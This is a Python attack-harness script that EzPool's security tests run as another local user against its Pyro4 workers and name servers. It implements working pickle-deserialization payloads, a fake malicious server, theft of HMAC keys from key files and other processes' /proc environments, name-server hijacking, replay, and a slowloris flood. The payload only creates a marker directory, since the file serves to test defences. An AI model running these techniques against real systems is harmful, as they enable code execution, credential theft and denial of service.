"""Attacks on EzPool workers, clients and name servers, as another local user would make them.

``tests/test_attacks.py`` runs this file by path, as uid 65534 (``setpriv``), with
``sys.executable``. It imports Pyro4, pickle and the standard library, never ezpool:
it knows no secret but what it can steal (and it tries). Subcommands::

    call URI --markers DIR [--wait-up S] [--steal PATH]...
        call a worker's methods with pickle payloads: Pyro4's pickle serializer
        (in the handshake and in the arguments), marshal carrying pickle bytes in
        ``run_chunk``, no key, and every key it can steal
    fake-server --port P --mode MODE --markers DIR [--serves NAME] [--lifetime S]
        a keyless Pyro4 "worker" or "name server" that answers with payloads
        (MODE: handshake, refusal, result, embedded; see ``_FakeConnection``)
    ns-attack NS NAME EVIL_URI [--steal PATH]...
        overwrite, remove or add names at a name server, with no key and stolen keys
    replay HOST:PORT FILE...
        send each recorded connection's bytes again, byte for byte, on a connection of its own
    flood HOST:PORT [--slow N] [--interval S] [--huge N] [--frame-bytes B] [--duration S]
        slowloris connections and frames announcing a huge size, until SIGTERM

Each outcome is one JSON line on stdout: ``{"kind", "name", "ok", "detail"}``. A
line of kind ``attack`` with ``ok`` true means that attack got through; ``info``
lines only describe. A payload, when a victim unpickles it, creates
``DIR/<attack name>`` (the attacker's proof of success), as the victim.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import json
import marshal
import os
import pickle
import select
import signal
import socket
import struct
import sys
import threading
import time
from pathlib import Path
from typing import Any, Callable, Optional

import Pyro4
import Pyro4.constants
import Pyro4.errors
import Pyro4.message
import Pyro4.util

#: Seconds any single Pyro4 call of the attacker may take.
CALL_TIMEOUT = 10.0
#: Keys guessed from other processes' command lines: at most this many are tried.
MAX_CANDIDATE_KEYS = 64
#: The serializer id of pickle in the Pyro4 wire protocol (never changes).
PICKLE_ID = Pyro4.util.PickleSerializer.serializer_id
MARSHAL_ID = Pyro4.util.MarshalSerializer.serializer_id

_print_lock = threading.Lock()


def report(kind: str, name: str, ok: bool, detail: Any = "") -> None:
    line = json.dumps({"kind": kind, "name": name, "ok": bool(ok), "detail": str(detail)[:500]})
    with _print_lock:
        print(line, flush=True)


def log(text: str) -> None:
    print(f"attacker[{os.getpid()}]: {text}", file=sys.stderr, flush=True)


class Payload:
    """Unpickling this creates the directory ``path`` as whoever unpickles it: the attacker's proof.

    (``os.mkdir`` rather than ``open``: it leaves no open file behind in the victim.)
    """

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return (os.mkdir, (self.path,))


def payload(markers: str, name: str) -> Payload:
    return Payload(os.path.join(markers, name))


def payload_bytes(markers: str, name: str) -> bytes:
    return pickle.dumps(payload(markers, name), protocol=2)


def attempt(name: str, call: Callable[[], Any]) -> Any:
    """Run one attack; report whether it got through (an exception means it did not)."""
    try:
        value = call()
    except Exception as exc:
        report("attack", name, False, f"{type(exc).__name__}: {exc}")
        return None
    report("attack", name, True, repr(value))
    return value


def proxy(uri: str, serializer: str = "marshal", key: Optional[bytes] = None, handshake: Any = None) -> Any:
    made = Pyro4.Proxy(uri)
    made._pyroSerializer = serializer
    made._pyroHmacKey = key
    made._pyroTimeout = CALL_TIMEOUT
    if handshake is not None:
        made._pyroHandshake = handshake
    return made


def invoke(uri: str, method: str, *args: Any, **settings: Any) -> Any:
    made = proxy(uri, **settings)
    try:
        return getattr(made, method)(*args)
    finally:
        made._pyroRelease()


def wait_up(host: str, port: int, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while True:
        try:
            socket.create_connection((host, port), timeout=1).close()
            return
        except OSError:
            if time.monotonic() > deadline:
                raise SystemExit(f"nothing listens on {host}:{port} after {seconds} s") from None
            time.sleep(0.05)


# --- stealing keys --------------------------------------------------------------------


def steal_keys(paths: list[str]) -> list[bytes]:
    """Every key this user can get: key files, then other processes' command lines and environments.

    Reading a key file or another user's environment is itself a breach (an
    ``attack`` line that got through); command lines are public, so each of their
    words is only a guess, tried as a key by the caller.
    """
    keys: list[bytes] = []
    for path in paths:
        try:
            data = Path(path).read_bytes().strip()
        except OSError as exc:
            report("attack", f"read key file {path}", False, f"{type(exc).__name__}: {exc}")
            continue
        report("attack", f"read key file {path}", True, f"{len(data)} bytes")
        keys.append(data)
    guesses: list[bytes] = []
    me = os.getuid()
    for entry in sorted(Path("/proc").iterdir(), key=lambda p: p.name):
        if not entry.name.isdigit():
            continue
        try:
            if entry.stat().st_uid == me:
                continue
            words = entry.joinpath("cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if not any(b"ezpool" in word or b"Pyro4" in word for word in words):
            continue
        for word in words:
            for guess in (word, word.partition(b"=")[2]):
                if len(guess) >= 8 and guess not in guesses:
                    guesses.append(guess)
        try:
            environ = entry.joinpath("environ").read_bytes()
        except OSError:
            continue
        report("attack", f"read environment of pid {entry.name}", True, f"{len(environ)} bytes")
        for item in environ.split(b"\0"):
            name, _, value = item.partition(b"=")
            if b"HMAC" in name or b"KEY" in name:
                keys.append(value)
    report("info", "guessed keys", True, f"{len(guesses)} words from command lines")
    return keys + guesses[:MAX_CANDIDATE_KEYS]


# --- call: attack a worker --------------------------------------------------------------


def cmd_call(args: argparse.Namespace) -> int:
    uri = Pyro4.URI(args.uri)
    if args.wait_up:
        wait_up(uri.host, uri.port, args.wait_up)
    markers = args.markers
    # Pyro4's own pickle serializer: the daemon must not unpickle the handshake or the arguments.
    attempt("pickle-handshake", lambda: invoke(
        args.uri, "ping", serializer="pickle", handshake=payload(markers, "pickle-handshake")))
    attempt("pickle-args", lambda: invoke(
        args.uri, "run_chunk", payload(markers, "pickle-args-identity"), 0, 1,
        [payload(markers, "pickle-args")], None, serializer="pickle"))
    # marshal, the serializer EzPool uses, carrying pickle bytes where tasks travel.
    identity = attempt("marshal-hello", lambda: invoke(args.uri, "hello"))
    identity = identity.get("identity", "0" * 32) if isinstance(identity, dict) else "0" * 32
    attempt("marshal-run_chunk", lambda: invoke(
        args.uri, "run_chunk", identity, 0, 1, [payload_bytes(markers, "marshal-run_chunk")], None))
    attempt("marshal-run_chunk-any-identity", lambda: invoke(
        args.uri, "run_chunk", "0" * 32, 0, 1, [payload_bytes(markers, "marshal-run_chunk-any")], None))
    for number, key in enumerate(steal_keys(args.steal)):
        name = f"stolen-key-{number}"
        got = attempt(f"{name}-hello", lambda key=key: invoke(args.uri, "hello", key=key))
        who = got.get("identity", "0" * 32) if isinstance(got, dict) else "0" * 32
        if got is not None:  # only a key that works is worth a payload
            attempt(f"{name}-run_chunk", lambda key=key, who=who, name=name: invoke(
                args.uri, "run_chunk", who, 0, 1, [payload_bytes(markers, name)], None, key=key))
    return 0


# --- fake-server: a keyless worker or name server that answers with payloads ------------

#: What the fake claims to expose (Pyro4 metadata).
_METHODS = ["hello", "describe", "ping", "busy", "run_chunk", "list", "lookup", "register", "remove",
            "set_metadata", "get_metadata"]
_META = {"methods": _METHODS, "oneway": [], "attrs": []}
_IDENTITY = "f" * 32


class _FakeConnection:
    """One victim connection, answered as ``mode`` says.

    ``handshake``: the connect is accepted with a pickle-serialized answer holding a payload.
    ``refusal``: the connect is refused with a pickle-serialized reason holding a payload.
    ``result``: a normal (marshal) connect, then every call answered with a pickled payload.
    ``embedded``: marshal throughout, answering like an EzPool worker, except that
    ``run_chunk`` returns ``("ok", <pickle bytes of a payload>)``.
    """

    def __init__(self, sock: socket.socket, mode: str, markers: str, serves: str) -> None:
        self.sock, self.mode, self.markers, self.serves = sock, mode, markers, serves

    def serve(self) -> None:
        with contextlib.closing(self.sock):
            self.sock.settimeout(CALL_TIMEOUT)
            while True:
                message = self._receive()
                if message is None:
                    return
                reply = self._answer(*message)
                self.sock.sendall(reply.to_bytes())
                if reply.type == Pyro4.message.MSG_CONNECTFAIL:
                    return

    def _receive(self) -> Optional[tuple[Any, bytes]]:
        header = self._read(Pyro4.message.Message.header_size)
        if header is None:
            return None
        message = Pyro4.message.Message.from_header(header)
        if message.annotations_size + message.data_size > 64 << 20:
            return None
        if self._read(message.annotations_size) is None:
            return None
        data = self._read(message.data_size)
        return None if data is None else (message, data)

    def _read(self, size: int) -> Optional[bytes]:
        parts, got = [], 0
        while got < size:
            try:
                part = self.sock.recv(min(size - got, 1 << 16))
            except OSError:
                return None
            if not part:
                return None
            parts.append(part)
            got += len(part)
        return b"".join(parts)

    def _pickled(self, name: str, kind: int, seq: int, flags: int = 0) -> Any:
        return Pyro4.message.Message(kind, payload_bytes(self.markers, name), PICKLE_ID, flags, seq)

    def _answer(self, message: Any, data: bytes) -> Any:
        Message, seq = Pyro4.message.Message, message.seq
        if message.type == Pyro4.message.MSG_CONNECT:
            log(f"connect from a victim (mode {self.mode})")
            if self.mode == "handshake":
                return self._pickled("fake-handshake", Pyro4.message.MSG_CONNECTOK, seq)
            if self.mode == "refusal":
                return self._pickled("fake-refusal", Pyro4.message.MSG_CONNECTFAIL, seq)
            if message.flags & Pyro4.message.FLAGS_META_ON_CONNECT:
                answer, flags = {"handshake": "hello", "meta": _META}, Pyro4.message.FLAGS_META_ON_CONNECT
            else:
                answer, flags = "hello", 0
            return Message(Pyro4.message.MSG_CONNECTOK, marshal.dumps(answer), MARSHAL_ID, flags, seq)
        if self.mode != "embedded" or message.serializer_id != MARSHAL_ID:
            return self._pickled(f"fake-{self.mode}", Pyro4.message.MSG_RESULT, seq)
        method = marshal.loads(data)[1]
        log(f"call {method}")
        answers = {
            "hello": {"identity": _IDENTITY, "serves": self.serves, "restarting": False, "pid": 1,
                      "host": "fake", "python": "3", "ezpool": "0.1.0", "platform": "linux"},
            "describe": self.serves,
            "ping": (_IDENTITY, False),
            "busy": False,
            "run_chunk": ("ok", payload_bytes(self.markers, "fake-embedded")),
            "get_metadata": _META,
            "list": {},
            "lookup": "PYRO:worker@127.0.0.1:1",
        }
        return Message(Pyro4.message.MSG_RESULT, marshal.dumps(answers.get(method)), MARSHAL_ID, 0, seq)


def cmd_fake_server(args: argparse.Namespace) -> int:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", args.port))
    server.listen(64)
    server.settimeout(0.2)
    report("info", "listening", True, args.port)
    deadline = time.monotonic() + args.lifetime
    while time.monotonic() < deadline:
        try:
            sock, _ = server.accept()
        except socket.timeout:
            continue
        connection = _FakeConnection(sock, args.mode, args.markers, args.serves)
        threading.Thread(target=_logged(connection.serve), daemon=True).start()
    return 0


def _logged(function: Callable[[], None]) -> Callable[[], None]:
    def run() -> None:
        try:
            function()
        except Exception as exc:
            log(f"{type(exc).__name__}: {exc}")

    return run


# --- ns-attack: take over names at a name server ---------------------------------------


def cmd_ns_attack(args: argparse.Namespace) -> int:
    host, _, port = args.ns.rpartition(":")
    uri = f"PYRO:{Pyro4.constants.NAMESERVER_NAME}@{host}:{port}"
    intruder = "ezpool.intruder.127.0.0.1.1"
    keys: list[Optional[bytes]] = [None, *steal_keys(args.steal)]
    for number, key in enumerate(keys):
        label = "no-key" if key is None else f"stolen-key-{number}"
        for serializer in ("marshal", "serpent", "json", "pickle"):
            settings = {"serializer": serializer, "key": key}
            attempt(f"{label}-{serializer}-register-over", lambda s=settings: invoke(
                uri, "register", args.name, args.evil_uri, False, **s))
            attempt(f"{label}-{serializer}-register-new", lambda s=settings: invoke(
                uri, "register", intruder, args.evil_uri, False, **s))
            attempt(f"{label}-{serializer}-remove", lambda s=settings: invoke(uri, "remove", args.name, **s))
            if key is not None:
                break  # a stolen key gets one try with each call; no need for every serializer
    return 0


# --- replay: send recorded connections again, byte for byte ------------------------------


def cmd_replay(args: argparse.Namespace) -> int:
    host, _, port = args.address.rpartition(":")
    for path in args.files:
        data = Path(path).read_bytes()
        received, closed = 0, False
        try:
            with socket.create_connection((host, int(port)), timeout=CALL_TIMEOUT) as sock:
                sock.sendall(data)
                sock.settimeout(args.idle)
                deadline = time.monotonic() + args.patience
                while time.monotonic() < deadline:
                    try:
                        part = sock.recv(1 << 16)
                    except socket.timeout:
                        break
                    if not part:
                        closed = True
                        break
                    received += len(part)
        except OSError as exc:
            report("info", f"replay {Path(path).name}", False, f"{type(exc).__name__}: {exc}")
            continue
        report("info", f"replay {Path(path).name}", True,
               f"sent {len(data)} bytes, got {received} back, closed by the worker: {closed}")
    return 0


# --- flood: slowloris and huge frames ----------------------------------------------------


def frame_header(data_size: int, serializer_id: int = MARSHAL_ID, seq: int = 0) -> bytes:
    """A valid Pyro4 header of a connect message that announces ``data_size`` bytes of data."""
    kind, flags, annotations = Pyro4.message.MSG_CONNECT, 0, 0
    version = Pyro4.constants.PROTOCOL_VERSION
    checksum = (kind + version + data_size + annotations + serializer_id + flags + seq
                + Pyro4.message.Message.checksum_magic) & 0xFFFF
    return struct.pack(Pyro4.message.Message.header_format, b"PYRO", version, kind, flags, seq,
                       data_size, serializer_id, annotations, 0, checksum)


class _Slot:
    """One flooding connection: ``slow`` (a byte every interval) or ``huge`` (frames at full speed)."""

    def __init__(self, kind: str, offset: float = 0.0) -> None:
        self.kind = kind
        self.offset = offset  # seconds from connecting to the first byte: the slow ones are staggered
        self.sock: Optional[socket.socket] = None
        self.connected = False
        self.sent = 0
        self.due = 0.0


class _Flood:
    """Keeps ``slow`` connections sending a byte every ``interval`` s, and ``huge`` connections
    streaming frames that announce ``frame_bytes``; every connection that closes is opened again.

    Everything is non-blocking, in one thread. The huge connections are opened first,
    so that they are served before the slow ones take every place the server has.
    """

    def __init__(self, address: tuple[str, int], args: argparse.Namespace) -> None:
        self.address, self.interval = address, args.interval
        self.slow_stream = frame_header(1 << 20) + b"\0" * (1 << 20)
        self.huge_frame = len(frame_header(0)) + args.frame_bytes
        self.huge_header = frame_header(args.frame_bytes)
        slow = [_Slot("slow", args.interval * number / max(1, args.slow)) for number in range(args.slow)]
        self.slots = [_Slot("huge") for _ in range(args.huge)] + slow
        self.stats = {"connected": 0, "connect_errors": 0, "closed_by_server": 0, "slow_bytes": 0,
                      "huge_bytes": 0, "huge_frames": 0}
        self.zeros = memoryview(b"\0" * (1 << 18))

    def all_connected(self) -> bool:
        return all(slot.connected for slot in self.slots)

    def _open(self, slot: _Slot, now: float) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        error = sock.connect_ex(self.address)
        if error not in (0, errno.EINPROGRESS):
            sock.close()
            self.stats["connect_errors"] += 1
            slot.due = now + 0.5
            return
        slot.sock, slot.connected, slot.sent = sock, False, 0
        if error == 0:
            self._connected(slot, now)

    def _connected(self, slot: _Slot, now: float) -> None:
        slot.connected = True
        slot.due = now + slot.offset
        self.stats["connected"] += 1

    def _close(self, slot: _Slot, now: float, counter: str) -> None:
        if slot.sock is not None:
            with contextlib.suppress(OSError):
                slot.sock.close()
        slot.sock, slot.connected, slot.due = None, False, now + 0.2
        self.stats[counter] += 1

    def tick(self, wait: float) -> None:
        now = time.monotonic()
        for slot in self.slots:
            if slot.sock is None and now >= slot.due:
                self._open(slot, now)
        live = {slot.sock: slot for slot in self.slots if slot.sock is not None}
        reading = [sock for sock, slot in live.items() if slot.connected]
        writing = [sock for sock, slot in live.items()
                   if not slot.connected or (slot.kind == "huge" and slot.sent < self.huge_frame)]
        readable, writable, _ = select.select(reading, writing, [], wait)
        now = time.monotonic()
        for sock in readable:  # what the server says is dropped; a hang-up is noted
            try:
                if not sock.recv(1 << 16):
                    self._close(live[sock], now, "closed_by_server")
            except BlockingIOError:
                pass
            except OSError:
                self._close(live[sock], now, "closed_by_server")
        for sock in writable:
            slot = live[sock]
            if slot.sock is None:
                continue
            if not slot.connected:
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    self._close(slot, now, "connect_errors")
                else:
                    self._connected(slot, now)
            elif slot.kind == "huge":
                self._push(slot, now)
        for slot in self.slots:
            if slot.kind == "slow" and slot.connected and now >= slot.due:
                self._drip(slot, now)

    def _drip(self, slot: _Slot, now: float) -> None:
        try:
            slot.sock.send(self.slow_stream[slot.sent % len(self.slow_stream):][:1])
        except BlockingIOError:
            return
        except OSError:
            self._close(slot, now, "closed_by_server")
            return
        slot.sent += 1
        slot.due = now + self.interval
        self.stats["slow_bytes"] += 1

    def _push(self, slot: _Slot, now: float) -> None:
        for _ in range(16):  # at most 4 MB a tick, so that the slow connections keep their pace
            if slot.sent >= self.huge_frame:
                return
            if slot.sent < len(self.huge_header):
                chunk: Any = self.huge_header[slot.sent:]
            else:
                chunk = self.zeros[: min(len(self.zeros), self.huge_frame - slot.sent)]
            try:
                sent = slot.sock.send(chunk)
            except BlockingIOError:
                return
            except OSError:
                self._close(slot, now, "closed_by_server")
                return
            slot.sent += sent
            self.stats["huge_bytes"] += sent
            if slot.sent >= self.huge_frame:
                self.stats["huge_frames"] += 1


def cmd_flood(args: argparse.Namespace) -> int:
    host, _, port = args.address.rpartition(":")
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    flood = _Flood((host, int(port)), args)
    settle = time.monotonic() + 10.0
    while not flood.all_connected() and time.monotonic() < settle:
        flood.tick(0.05)
    report("info", "ready", True, json.dumps(flood.stats))
    deadline = time.monotonic() + args.duration
    while not stop.is_set() and time.monotonic() < deadline:
        flood.tick(0.02)
    report("info", "flood", True, json.dumps(flood.stats))
    return 0


# --- command line ------------------------------------------------------------------------


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="_attacker.py", description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(dest="command", required=True)
    call = commands.add_parser("call")
    call.add_argument("uri")
    call.add_argument("--markers", required=True)
    call.add_argument("--wait-up", type=float, default=0.0)
    call.add_argument("--steal", action="append", default=[])
    fake = commands.add_parser("fake-server")
    fake.add_argument("--port", type=int, required=True)
    fake.add_argument("--mode", choices=("handshake", "refusal", "result", "embedded"), required=True)
    fake.add_argument("--markers", required=True)
    fake.add_argument("--serves", default="Napper")
    fake.add_argument("--lifetime", type=float, default=300.0)
    ns = commands.add_parser("ns-attack")
    ns.add_argument("ns")
    ns.add_argument("name")
    ns.add_argument("evil_uri")
    ns.add_argument("--steal", action="append", default=[])
    replay = commands.add_parser("replay")
    replay.add_argument("address")
    replay.add_argument("files", nargs="+")
    replay.add_argument("--idle", type=float, default=3.0, help="stop reading after this long without data")
    replay.add_argument("--patience", type=float, default=20.0, help="stop reading after this long")
    flood = commands.add_parser("flood")
    flood.add_argument("address")
    flood.add_argument("--slow", type=int, default=300)
    flood.add_argument("--interval", type=float, default=3.0)
    flood.add_argument("--huge", type=int, default=2)
    flood.add_argument("--frame-bytes", type=int, default=400_000_000)
    flood.add_argument("--duration", type=float, default=150.0)
    return parser


_COMMANDS = {"call": cmd_call, "fake-server": cmd_fake_server, "ns-attack": cmd_ns_attack,
             "replay": cmd_replay, "flood": cmd_flood}


def main(argv: Optional[list[str]] = None) -> int:
    args = _parser().parse_args(argv)
    return _COMMANDS[args.command](args)


if __name__ == "__main__":
    sys.exit(main())
